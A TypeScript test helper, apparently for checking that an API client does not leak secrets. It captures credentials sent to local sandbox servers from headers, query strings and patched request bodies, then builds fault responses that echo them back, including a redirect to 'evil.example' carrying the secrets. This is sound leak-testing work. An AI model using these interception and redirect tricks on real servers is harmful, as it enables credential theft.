import { subscribe } from 'node:diagnostics_channel'
import type { IncomingMessage } from 'node:http'
import type { Fault } from '../../src/sandboxes/faults.ts'
import type { Sandbox } from '../../src/sandboxes/kit.ts'

/** Every credential that the HTTP servers of this process were sent, from now on, by their ports. */
export function overhear(): ReadonlyMap<number, Set<string>> {
  const byPort = new Map<number, Set<string>>()
  subscribe('http.server.request.start', (message) => {
    const { request } = message as { request: IncomingMessage }
    const port = request.socket.localPort!
    const heard = byPort.get(port) ?? new Set()
    byPort.set(port, heard)
    const { authorization = '' } = request.headers
    const [, credential] = authorization.split(' ', 2)
    const inUrl = new URL(request.url ?? '/', 'http://localhost').searchParams.get('access_token')
    for (const each of [credential, inUrl]) if (each) heard.add(each)
    if (request.url?.includes('token')) hearBody(request, heard)
  })
  return byPort
}

/** Seen on its way into the stream's buffer: a listener would take it from the server. */
function hearBody(request: IncomingMessage, heard: Set<string>): void {
  const push = request.push.bind(request)
  let text = ''
  request.push = (chunk: Buffer | null, encoding?: BufferEncoding) => {
    text += chunk?.toString() ?? ''
    const assertion = new URLSearchParams(text).get(chunk === null ? 'assertion' : '')
    if (assertion) heard.add(assertion)
    return push(chunk, encoding)
  }
}

/** Answers of a vendor that repeats what it was sent, in every way that it may fail. */
export function echoesOf(heard: ReadonlyMap<number, Set<string>>, sandbox: Sandbox): Omit<Fault, 'match'>[] {
  const said = [...(heard.get(Number(new URL(sandbox.url).port)) ?? [])].slice(-3).join(' ')
  const body = JSON.stringify({
    code: 300,
    message: said,
    error: { message: said, reason: said },
    reason: said,
    error_description: said,
  })
  return [
    ...[400, 401, 403, 404, 409, 429, 500, 503].map((status) => ({ kind: 'status' as const, status, body })),
    { kind: 'status', status: 400, body: said, headers: { 'x-echo': 'a' } },
    { kind: 'body', status: 200, body: said },
    { kind: 'body', status: 200, body },
    { kind: 'status', status: 302, headers: { location: `https://evil.example/?${said.slice(0, 2_000)}` } },
    { kind: 'reset' },
    { kind: 'cut' },
  ]
}
